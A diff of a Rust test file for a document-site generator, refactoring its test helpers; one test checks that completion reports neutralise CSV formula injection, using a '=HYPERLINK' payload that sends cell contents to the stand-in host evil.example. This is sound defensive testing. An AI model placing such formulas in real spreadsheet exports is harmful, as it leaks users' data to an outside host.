@@ -4,78 +4,23 @@
 //! ledning, and retired, draft and restricted documents and modules that
 //! must stay off every reading list, and whose quizzes must never be written.
 
+use crate::harness::files::{files_containing, read};
+use crate::harness::{fixtures, Outcome, TestSite};
 use std::fs;
 use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
 
-const BIN: &str = env!("CARGO_BIN_EXE_styrdok");
-
-fn fixtures() -> PathBuf {
-    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
+/// The core base site with the training overlay.
+fn site() -> TestSite {
+    TestSite::new()
+        .fixture("core/base")
+        .fixture("training/site")
 }
 
-fn copy_dir(from: &Path, to: &Path) {
-    for entry in walkdir::WalkDir::new(from) {
-        let entry = entry.unwrap();
-        let target = to.join(entry.path().strip_prefix(from).unwrap());
-        if entry.file_type().is_dir() {
-            fs::create_dir_all(&target).unwrap();
-        } else {
-            fs::copy(entry.path(), &target).unwrap();
-        }
-    }
-}
-
-fn site() -> tempfile::TempDir {
-    let dir = tempfile::tempdir().unwrap();
-    copy_dir(&fixtures().join("core/base"), dir.path());
-    copy_dir(&fixtures().join("training/site"), dir.path());
-    dir
-}
-
-fn run(root: &Path, args: &[&str]) -> Output {
-    Command::new(BIN)
-        .args(args)
-        .args(["--root", root.to_str().unwrap()])
-        .env("STYRDOK_TODAY", "2026-11-29")
-        .output()
-        .unwrap()
-}
-
-fn stderr(o: &Output) -> String {
-    String::from_utf8_lossy(&o.stderr).into_owned()
-}
-
-fn stdout(o: &Output) -> String {
-    String::from_utf8_lossy(&o.stdout).into_owned()
-}
-
-fn read(out: &Path, rel: &str) -> String {
-    fs::read_to_string(out.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
-}
-
-fn built(drafts: bool) -> (tempfile::TempDir, PathBuf) {
+fn built(drafts: bool) -> (TestSite, PathBuf) {
     let s = site();
-    let args: &[&str] = if drafts {
-        &["build", "--drafts"]
-    } else {
-        &["build"]
-    };
-    let o = run(s.path(), args);
-    assert!(o.status.success(), "{}", stderr(&o));
-    let out = s.path().join("public");
+    s.build_drafts(drafts);
+    let out = s.out();
     (s, out)
-}
-
-/// Every output file whose text contains `needle`.
-fn files_containing(out: &Path, needle: &str) -> Vec<String> {
-    walkdir::WalkDir::new(out)
-        .into_iter()
-        .map(Result::unwrap)
-        .filter(|e| e.file_type().is_file())
-        .filter(|e| String::from_utf8_lossy(&fs::read(e.path()).unwrap()).contains(needle))
-        .map(|e| e.path().strip_prefix(out).unwrap().display().to_string())
-        .collect()
 }
 
 #[test]
@@ -239,26 +184,23 @@ fn the_training_settings_are_one_module_not_a_copy_in_every_page() {
     );
 }
 
-fn report(root: &Path, csv: &Path, format: &str) -> Output {
-    run(
-        root,
-        &[
-            "report",
-            "--completions",
-            csv.to_str().unwrap(),
-            "--format",
-            format,
-        ],
-    )
+fn report(s: &TestSite, csv: &Path, format: &str) -> Outcome {
+    s.run(&[
+        "report",
+        "--completions",
+        csv.to_str().unwrap(),
+        "--format",
+        format,
+    ])
 }
 
 #[test]
 fn report_counts_distinct_passes_per_module_and_unit() {
     let s = site();
     let csv = fixtures().join("training/report/completions.csv");
-    let o = report(s.path(), &csv, "md");
-    assert!(o.status.success(), "{}", stderr(&o));
-    let md = stdout(&o);
+    let o = report(&s, &csv, "md");
+    assert!(o.succeeded(), "{}", o.stderr());
+    let md = o.stdout();
     // M-1 (current 1.0): Anna twice (counted once), Bo on 1.1; Cia failed;
     // Dan passed only 0.9 (outdated, flagged).
     assert!(md.contains("| M-1 Grundkurs | 1.0 | 2 | 1 | 1 ! |"), "{md}");
@@ -281,12 +223,13 @@ fn report_counts_distinct_passes_per_module_and_unit() {
     assert!(md.contains("M-9"), "unknown ids are named: {md}");
     // The row with passed=maybe is skipped with its line.
     assert!(
-        stderr(&o).contains("completions.csv:12:1: warning: passed is `maybe`"),
+        o.stderr()
+            .contains("completions.csv:12:1: warning: passed is `maybe`"),
         "{}",
-        stderr(&o)
+        o.stderr()
     );
 
-    let csv_out = stdout(&report(s.path(), &csv, "csv"));
+    let csv_out = report(&s, &csv, "csv").stdout();
     assert!(csv_out.starts_with(
         "kind,id,title,current_version,unit,passed_current,not_passed,passed_outdated_only\n"
     ));
@@ -298,7 +241,7 @@ fn report_counts_distinct_passes_per_module_and_unit() {
         csv_out.contains("quiz,M-1,Grundkurs,1.0,sof,1,,\n"),
         "{csv_out}"
     );
-    let html = stdout(&report(s.path(), &csv, "html"));
+    let html = report(&s, &csv, "html").stdout();
     assert!(html.starts_with("<!doctype html>") && html.contains("<html lang=\"sv\">"));
     assert!(html.contains("<th scope=\"row\">M-1 Grundkurs</th><td>1.0</td><td>2</td>"));
 }
@@ -310,9 +253,9 @@ fn report_counts_distinct_passes_per_module_and_unit() {
 fn report_writes_no_formulas() {
     let s = site();
     let export = fixtures().join("training/report/formulas.csv");
-    let o = report(s.path(), &export, "csv");
-    assert!(o.status.success(), "{}", stderr(&o));
-    let csv = stdout(&o);
+    let o = report(&s, &export, "csv");
+    assert!(o.succeeded(), "{}", o.stderr());
+    let csv = o.stdout();
     for cell in [
         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
         ",'+1+1,",
@@ -335,7 +278,7 @@ fn report_writes_no_formulas() {
             );
         }
     }
-    let md = stdout(&report(s.path(), &export, "md"));
+    let md = report(&s, &export, "md").stdout();
     for cell in [
         "| '+1+1 |",
         "| '@SUM(1) |",
@@ -353,7 +296,7 @@ fn report_writes_no_formulas() {
         !md.contains("| =") && !md.contains("| +") && !md.contains("| @"),
         "{md}"
     );
-    let html = stdout(&report(s.path(), &export, "html"));
+    let html = report(&s, &export, "html").stdout();
     assert!(
         html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)"),
         "{html}"
@@ -363,38 +306,40 @@ fn report_writes_no_formulas() {
 #[test]
 fn report_exit_codes() {
     let s = site();
-    let missing = report(s.path(), &s.path().join("nope.csv"), "md");
-    assert_eq!(missing.status.code(), Some(2), "{}", stderr(&missing));
-    let bad = s.path().join("bad.csv");
+    let missing = report(&s, &s.root().join("nope.csv"), "md");
+    assert_eq!(missing.code(), Some(2), "{}", missing.stderr());
+    let bad = s.root().join("bad.csv");
     fs::write(
         &bad,
         "kind,id,version,passed,email\nquiz,M-1,1.0,true,\"open\n",
     )
     .unwrap();
-    let o = report(s.path(), &bad, "md");
-    assert_eq!(o.status.code(), Some(1));
+    let o = report(&s, &bad, "md");
+    assert_eq!(o.code(), Some(1));
     assert!(
-        stderr(&o).contains("bad.csv:2:1: error: a quoted field is never closed"),
+        o.stderr()
+            .contains("bad.csv:2:1: error: a quoted field is never closed"),
         "{}",
-        stderr(&o)
+        o.stderr()
     );
     fs::write(&bad, "kind,id\nquiz,M-1\n").unwrap();
-    let o = report(s.path(), &bad, "md");
-    assert_eq!(o.status.code(), Some(1));
+    let o = report(&s, &bad, "md");
+    assert_eq!(o.code(), Some(1));
     assert!(
-        stderr(&o).contains("lacks the column(s) version, passed, email or name"),
+        o.stderr()
+            .contains("lacks the column(s) version, passed, email or name"),
         "{}",
-        stderr(&o)
+        o.stderr()
     );
-    let o = report(s.path(), &bad, "pdf");
-    assert_eq!(o.status.code(), Some(2));
+    let o = report(&s, &bad, "pdf");
+    assert_eq!(o.code(), Some(2));
 }
 
 #[test]
 fn a_theme_can_restyle_every_list_entry_and_a_broken_one_fails_the_build() {
     let (s, out) = built(false);
     let before = fs::read(out.join("roller/chef/index.html")).unwrap();
-    let item = s.path().join("themes/default/templates/item.html");
+    let item = s.root().join("themes/default/templates/item.html");
     fs::create_dir_all(item.parent().unwrap()).unwrap();
 
     // An override of item.html is what reading lists (and every other
@@ -404,8 +349,8 @@ fn a_theme_can_restyle_every_list_entry_and_a_broken_one_fails_the_build() {
         "<li class=\"mine\">{{ item.id }}: {{ item.title }}</li>",
     )
     .unwrap();
-    let o = run(s.path(), &["build"]);
-    assert!(o.status.success(), "{}", stderr(&o));
+    let o = s.run(&["build"]);
+    assert!(o.succeeded(), "{}", o.stderr());
     let list = read(&out, "roller/chef/index.html");
     assert!(list.contains("<li class=\"mine\">"), "{list}");
     assert!(!list.contains("class=\"item-title\""));
@@ -415,8 +360,8 @@ fn a_theme_can_restyle_every_list_entry_and_a_broken_one_fails_the_build() {
     fs::write(&item, "<li>{{ item.no_such_field }}</li>").unwrap();
     let good = fs::read(out.join("roller/chef/index.html")).unwrap();
     assert_ne!(good, before);
-    let o = run(s.path(), &["build"]);
-    assert!(!o.status.success());
-    assert!(stderr(&o).contains("item.html"), "{}", stderr(&o));
+    let o = s.run(&["build"]);
+    assert!(!o.succeeded());
+    assert!(o.stderr().contains("item.html"), "{}", o.stderr());
     assert_eq!(fs::read(out.join("roller/chef/index.html")).unwrap(), good);
 }
